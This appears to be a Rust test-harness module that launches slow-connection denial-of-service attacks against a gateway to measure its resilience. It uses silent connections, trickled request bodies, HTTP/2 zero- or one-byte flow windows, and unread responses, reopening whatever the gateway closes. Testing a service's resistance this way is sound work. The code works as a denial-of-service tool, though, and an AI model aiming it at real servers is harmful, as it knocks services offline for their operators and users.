//! The attackers: a process of their own, so that their memory, their CPU time and their open files are not the client's.

use std::{
    cell::Cell,
    io::{self, Write as _},
    net::SocketAddr,
    rc::Rc,
    time::{Duration, Instant},
};

use axum::http::Request;
use bytes::Bytes;
use clap::Args;
use h2::client::SendRequest;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::{
        TcpSocket, TcpStream,
        tcp::{ReadHalf, WriteHalf},
    },
    task::{JoinSet, spawn_local},
    time::{interval, sleep, sleep_until, timeout},
};

use super::Attack;
use crate::load::{Expected, Question};

/// When they end by themselves, if nobody ends them: several times what a measurement takes.
const LENGTH: Duration = Duration::from_secs(120);

/// What lies between two openings of what was closed, over all connections and streams: fifty a second.
const REOPENING: Duration = Duration::from_millis(20);

/// What lies between the first openings of two connections. All at once they would overflow the gateway's queue of connections to
/// accept, and what the kernel drops from that looks open to the caller alone.
const OPENING: Duration = Duration::from_millis(1);

/// What lies between two requests of a connection. At once, those of all connections would be refused as an overload, with an answer
/// that is too small to be worth holding; so they are some 3,000 a second, fewer than the gateway can decide.
const PACE: Duration = Duration::from_millis(20);

/// The friends of a request. One more, whom the policy drops, is why the answer lists them all: some 19,000 bytes.
const FRIENDS: usize = 1_000;

const STREAMS: u32 = 60;

/// What a trickled body is said to have, and what lies between two of its bytes.
const TRICKLED_BYTES: usize = 200_000;
const TRICKLE: Duration = Duration::from_millis(100);

/// As little as the kernel gives for what is not read yet, so that it is the gateway that holds it.
const RECEIVE_BYTES: u32 = 4_096;

#[derive(Args, Debug)]
pub(crate) struct AttackersSettings {
    /// The gateway
    #[arg(long)]
    address: SocketAddr,
    #[arg(long)]
    attack: Attack,
}

/// What is done with a connection.
#[derive(Clone, Copy, Debug)]
enum Hold {
    Silent,
    Trickle,
    /// With so many bytes for each answer.
    Http2(u32),
    Unread,
}

impl Attack {
    fn connections(self) -> Vec<(usize, Hold)> {
        match self {
            Self::Silent => vec![(1_000, Hold::Silent)],
            Self::Trickle => vec![(200, Hold::Trickle)],
            Self::Window0 => vec![(60, Hold::Http2(0))],
            Self::Window1 => vec![(60, Hold::Http2(1))],
            Self::Window65535 => vec![(60, Hold::Http2(65_535))],
            Self::Unread => vec![(60, Hold::Unread)],
            // The silent ones last, or a gateway that lets nobody in after them would never see the others.
            Self::All => {
                let windows = [0, 1, 65_535].map(|window| (20, Hold::Http2(window)));
                let others = [Self::Trickle, Self::Unread, Self::Silent];
                let others = others.into_iter().flat_map(Self::connections);
                windows.into_iter().chain(others).collect()
            }
        }
    }
}

struct Attackers {
    address: SocketAddr,
    question: Question,
    /// For operationIDs.
    number: Cell<u64>,
    /// When the next that was closed may be opened again.
    next: Cell<Instant>,
    /// How many were opened again.
    again: Cell<usize>,
}

/// Holds the attack's connections, opens again what the gateway closes, and says every second how often.
pub(crate) async fn attackers(settings: AttackersSettings) -> anyhow::Result<()> {
    let AttackersSettings { address, attack } = settings;
    let all = Rc::new(Attackers {
        address,
        question: Question::new(address, FRIENDS, Expected::Modify),
        number: Cell::new(0),
        next: Cell::new(Instant::now()),
        again: Cell::new(0),
    });
    let connections = attack.connections();
    let holds = connections
        .iter()
        .flat_map(|(count, hold)| std::iter::repeat_n(*hold, *count));
    for (number, hold) in (0..).zip(holds) {
        let all = Rc::clone(&all);
        spawn_local(async move {
            sleep(OPENING * number).await;
            all.hold_on(hold).await;
        });
    }
    let tell = async {
        let mut clock = interval(Duration::from_secs(1));
        loop {
            clock.tick().await;
            writeln!(io::stdout(), "{}", all.again.get())?;
        }
    };
    timeout(LENGTH, tell).await.unwrap_or(Ok(()))
}

impl Attackers {
    async fn hold_on(self: Rc<Self>, hold: Hold) {
        loop {
            if let Ok(stream) = connect(self.address, hold).await {
                // However it ends, there is another.
                let _ = self.hold(stream, hold).await;
            }
            self.turn().await;
        }
    }

    /// Until the gateway has closed it.
    async fn hold(self: &Rc<Self>, mut stream: TcpStream, hold: Hold) -> anyhow::Result<()> {
        match hold {
            Hold::Silent => Ok(until_closed(&mut stream.split().0).await?),
            Hold::Trickle => {
                let (mut read, mut write) = stream.split();
                Ok(tokio::select! {
                    closed = until_closed(&mut read) => closed,
                    closed = trickle(&mut write) => closed,
                }?)
            }
            Hold::Unread => loop {
                // It waits here once nobody takes more, and fails once the gateway gives up.
                stream
                    .write_all(&self.question.bytes(self.number()))
                    .await?;
                sleep(PACE).await;
            },
            Hold::Http2(window) => self.http2(stream, window).await,
        }
    }

    /// Lets the requests' bodies go out as the gateway allows it and answers its pings, but never lets it send more.
    async fn http2(self: &Rc<Self>, stream: TcpStream, window: u32) -> anyhow::Result<()> {
        let mut builder = h2::client::Builder::new();
        builder.initial_window_size(window);
        let (client, connection) = builder.handshake::<_, Bytes>(stream).await?;
        let mut streams = JoinSet::new();
        for number in 0..STREAMS {
            let (all, client) = (Rc::clone(self), client.clone());
            streams.spawn_local(async move {
                sleep(PACE * number).await;
                all.ask_on(client).await
            });
        }
        Ok(connection.await?)
    }

    /// Asks, and asks again when the gateway ends the stream, until the connection is closed.
    async fn ask_on(&self, mut client: SendRequest<Bytes>) -> anyhow::Result<()> {
        // A body that is dropped gives its window back.
        let mut held = Vec::new();
        loop {
            client = client.ready().await?;
            let path = "callbackBeforeImportFriendsCommand";
            let request = Request::post(format!("http://{}/{path}", self.address))
                .header("content-type", "application/json")
                .header("operationid", self.number())
                .body(())?;
            let (answer, mut body) = client.send_request(request, false)?;
            body.send_data(self.question.body().clone(), true)?;
            if let Ok(answer) = answer.await {
                let mut answer = answer.into_body();
                while let Some(Ok(_)) = answer.data().await {}
                held.push(answer);
            }
            self.turn().await;
        }
    }

    /// Waits until something may be opened again.
    async fn turn(&self) {
        let turn = self.next.get().max(Instant::now());
        self.next.set(turn + REOPENING);
        sleep_until(turn.into()).await;
        self.again.set(self.again.get() + 1);
    }

    fn number(&self) -> u64 {
        self.number.replace(self.number.get() + 1)
    }
}

async fn connect(address: SocketAddr, hold: Hold) -> io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    if let Hold::Unread = hold {
        socket.set_recv_buffer_size(RECEIVE_BYTES)?;
    }
    socket.set_nodelay(true)?;
    socket.connect(address).await
}

/// What the gateway says is read and forgotten.
async fn until_closed(read: &mut ReadHalf<'_>) -> io::Result<()> {
    while read.read(&mut [0; 512]).await? > 0 {}
    Ok(())
}

async fn trickle(write: &mut WriteHalf<'_>) -> io::Result<()> {
    let head = format!(
        "POST /callbackBeforeImportFriendsCommand HTTP/1.1\r\n\
         Host: gateway\r\n\
         Content-Type: application/json\r\n\
         Operationid: trickle\r\n\
         Content-Length: {TRICKLED_BYTES}\r\n\r\n"
    );
    write.write_all(head.as_bytes()).await?;
    loop {
        // White space, so that there is nothing wrong with it yet.
        write.write_all(b" ").await?;
        sleep(TRICKLE).await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn all_attacks_together_have_the_connections_of_one_http2_attack_and_all_others() {
        let count = |attack: Attack| -> usize {
            let connections = attack.connections();
            connections.iter().map(|(count, _)| count).sum()
        };
        let others = [Attack::Silent, Attack::Trickle, Attack::Unread].map(count);
        let all = others.iter().sum::<usize>() + count(Attack::Window0);
        assert_eq!(count(Attack::All), all);
        assert_eq!(all, 1_320);
    }
}
